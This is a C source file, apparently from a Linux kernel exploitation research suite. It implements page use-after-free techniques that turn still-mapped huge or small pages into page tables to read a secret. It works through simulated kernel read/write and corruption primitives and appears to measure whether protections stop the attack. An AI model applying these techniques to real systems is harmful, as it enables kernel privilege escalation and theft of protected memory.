// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attacks by way of memory that becomes a page table while it is still mapped:
 * whether anybody uses a page is said by a count in struct page.
 */
#include <fcntl.h>
#include <stddef.h>
#include <stdio.h>
#include <sys/mman.h>
#include <sys/uio.h>
#include <unistd.h>

#include "attack.h"
#include "chunk.h"
#include "list.h"
#include "objects.h"

#define HUGE_PART	0x5a
#define TABLES_PART	0x5b
#define TABLES		6144
#define AIR_PART	0x5d
#define AIR		(64UL << 20)	/* more than the allocator keeps back */
#define OTHERS		128
#define HUGE_ORDER	__builtin_ctzl(PMD_SIZE / PAGE_SIZE)
#define SMALL_PAGES	2048	/* some of them are a chunk */
#define STILL_HELD	32	/* of the last ones, before they are on a list of their own */
#define TRIES		5
#define HEAD_PAGES	3	/* of a huge page, that say what it is */

struct freed {
	volatile char *at;
	size_t size;
	uint64_t phys, page;
	size_t heads;
	char as_mapped[CHUNK_PAGES * STRUCT_PAGE];	/* of the first ones */
};

static bool make_huge(struct freed *freed)
{
	struct slot slot;

	freed->at = mmap((void *)user_room(HUGE_PART), PMD_SIZE, PROT_READ | PROT_WRITE,
			 MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
	if (freed->at == MAP_FAILED)
		return false;
	madvise((void *)freed->at, PMD_SIZE, MADV_HUGEPAGE);
	madvise((void *)freed->at, PMD_SIZE, MADV_DONTFORK);
	freed->at[0] = 1;
	if (kwalk((uint64_t)freed->at, LEAF, 0, &slot) || slot.level != LEVEL_PMD)
		return false;
	freed->size = PMD_SIZE;
	freed->heads = HEAD_PAGES * STRUCT_PAGE;
	freed->phys = slot.phys;
	freed->page = slot.page;
	return true;
}

/* Fresh memory often comes in a row. */
static bool find_chunk(struct freed *freed)
{
	volatile char *at = map_small_pages(HUGE_PART, SMALL_PAGES * PAGE_SIZE);
	struct slot slot;
	int i;

	for (i = 0; at && i < SMALL_PAGES; i++)
		at[i * PAGE_SIZE] = 1;
	for (i = 0; at && i < SMALL_PAGES - STILL_HELD; i++) {
		if (!is_chunk(at + i * PAGE_SIZE, &slot))
			continue;
		*freed = (struct freed){ at + i * PAGE_SIZE, CHUNK_SIZE, slot.phys, slot.page,
					 CHUNK_PAGES * STRUCT_PAGE, "" };
		return true;
	}
	return false;
}

/* A CPU keeps some of what it frees: let that be others. */
static void free_others(void)
{
	char *others = mmap(NULL, (OTHERS + 1) * PMD_SIZE, PROT_READ | PROT_WRITE,
			    MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
	int i;

	madvise(others, (OTHERS + 1) * PMD_SIZE, MADV_HUGEPAGE);
	for (i = 0; i < OTHERS; i++)
		others[i * PMD_SIZE] = 1;
	munmap(others, (OTHERS + 1) * PMD_SIZE);
}

/* Small pages, which give no huge one when they are freed: one of each stays. */
static void hold_air(char *air)
{
	size_t at;

	for (at = 0; at < AIR; at += PAGE_SIZE)
		air[at] = 1;
}

static void let_air_go(char *air)
{
	size_t at;

	for (at = 0; at < AIR; at += PMD_SIZE)
		madvise(air + at + PAGE_SIZE, PMD_SIZE - PAGE_SIZE, MADV_DONTNEED);
}

/* The allocator keeps some memory back: the last huge pages go when it has small ones. */
static bool take_huge_page(uint64_t addr, char *air)
{
	bool has_air = true;

	for (;;) {
		if (corrupt_command("alloc order=%d", HUGE_ORDER)) {
			if (!has_air)
				return false;
			let_air_go(air);
			has_air = false;
		} else if (corrupt_answer("address") == addr) {
			return true;
		}
	}
}

/*
 * Without a pool a table is any single page: one of ours is the next. How much a
 * CPU keeps changes with what it frees, so that once may not be enough.
 */
static bool free_single_page(const struct freed *freed)
{
	uint64_t addr = direct_map_base() + freed->phys;
	char *air = (char *)user_room(AIR_PART);
	int tries;

	mmap(air, AIR, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
	madvise(air, AIR, MADV_NOHUGEPAGE);
	for (tries = 0; tries < TRIES; tries++) {
		hold_air(air);
		free_others();
		if (take_huge_page(addr, air))
			return !corrupt_command("split addr=0x%lx", addr) &&
			       !corrupt_command("free count=1");
		corrupt_command("free");
	}
	return false;
}

/* A pipe has a reference, too; it drops what is taken for the last one. */
static int free_while_mapped(struct freed *freed)
{
	struct iovec part = { (void *)freed->at, PAGE_SIZE };
	int fds[2], err;

	if (pipe(fds) || vmsplice(fds[1], &part, 1, 0) != (ssize_t)PAGE_SIZE)
		return -1;
	err = kread(freed->page, freed->as_mapped, freed->heads);
	err = err ?: add_reference(freed->page, -1);
	close(fds[0]);
	close(fds[1]);
	return err;
}

static bool wait_for_table(const struct freed *freed, volatile char *base, struct window *window)
{
	struct slot slot;
	int i;

	for (i = 1; i < TABLES; i++) {
		(void)base[i * PMD_SIZE];
		if (!window_open_behind(window, base + i * PMD_SIZE) ||
		    kwalk(window->slot, LEAF, 0, &slot))
			return false;
		if (slot.phys - freed->phys < freed->size)
			return true;
	}
	return false;
}

/* For as long as it is unmapped the memory is what it was, with a reference more. */
static void unmap(struct freed *freed)
{
	char as_tables[sizeof(freed->as_mapped)];

	kread(freed->page, as_tables, freed->heads);
	kwrite(freed->page, freed->as_mapped, freed->heads);
	munmap((void *)freed->at, freed->size);
	kwrite(freed->page, as_tables, freed->heads);
}

static enum outcome use_table(struct freed *freed, volatile char *base, int err)
{
	struct window window;
	struct slot slot;
	char text[64];

	if (err || !wait_for_table(freed, base, &window))
		return lost("the stores gave %d; none of %d tables is in memory of ours", err, TABLES);
	kwalk(window.slot, LEAF, 0, &slot);
	take_secret_in(freed->at + ((slot.phys - freed->phys) & -PAGE_SIZE), &window, text, sizeof(text));
	return judge_secret(text, err);
}

static volatile char *make_room(void)
{
	volatile char *base = sparse_region(user_room(TABLES_PART), TABLES, PROT_READ);

	stay_on_cpu(0);
	if (base)
		(void)base[0];
	return base;
}

enum outcome huge_page_count(void)
{
	volatile char *base = make_room();
	enum outcome outcome;
	struct freed freed;
	int err;

	if (!base || !make_huge(&freed))
		return broken("no huge page");
	if (is_protected())
		use_up_blocks();
	err = free_while_mapped(&freed);
	if (!is_protected() && !free_single_page(&freed))
		return broken("the huge page was not freed");
	outcome = use_table(&freed, base, err);
	unmap(&freed);
	corrupt_command("free");
	return outcome;
}

/* Else what is written over its links ends up in those of others. */
static int take_off_lru(uint64_t page)
{
	uint64_t flags = kread64(page + PAGE_FLAGS);
	uint64_t next = kread64(page + PAGE_LRU), prev = kread64(page + PAGE_LRU + 8);
	int err;

	if (!(flags & ON_LRU))
		return 0;
	err = kwrite64(prev, next);
	err = err ?: kwrite64(next + 8, prev);
	return err ?: kwrite64(page + PAGE_FLAGS, flags & ~ON_LRU);
}

/* Nobody frees it: a list of the page allocator just has it. */
static int list_while_mapped(struct freed *freed, int nr, int order)
{
	int i, err = 0;

	for (i = 0; i < nr && !err; i++) {
		err = take_off_lru(freed->page + i * STRUCT_PAGE);
		err = err ?: add_reference(freed->page + i * STRUCT_PAGE, 1);
	}
	err = err ?: kread(freed->page, freed->as_mapped, freed->heads);
	return err ?: put_on_free_list(freed->page, is_protected() ? order : 0);
}

enum outcome huge_page_list(void)
{
	volatile char *base = make_room();
	enum outcome outcome;
	struct freed freed;

	if (!base || !make_huge(&freed))
		return broken("no huge page");
	outcome = use_table(&freed, base, list_while_mapped(&freed, 1, HUGE_ORDER));
	unmap(&freed);
	return outcome;
}

/* Whoever looks for blocks moves pages, but those that somebody has a reference to. */
static void use_up_other_blocks(const struct freed *freed)
{
	int i;

	for (i = 0; i < CHUNK_PAGES; i++)
		add_reference(freed->page + i * STRUCT_PAGE, 1);
	use_up_blocks();
	for (i = 0; i < CHUNK_PAGES; i++)
		add_reference(freed->page + i * STRUCT_PAGE, -1);
}

/* A few small ones pass for what is taken where memory is fragmented. */
enum outcome small_pages_list(void)
{
	volatile char *base = make_room();
	enum outcome outcome;
	struct freed freed;

	if (!base || !find_chunk(&freed))
		return broken("no pages in a row");
	if (is_protected())
		use_up_other_blocks(&freed);
	outcome = use_table(&freed, base, list_while_mapped(&freed, CHUNK_PAGES, CHUNK_ORDER));
	unmap(&freed);
	corrupt_command("free");
	return outcome;
}
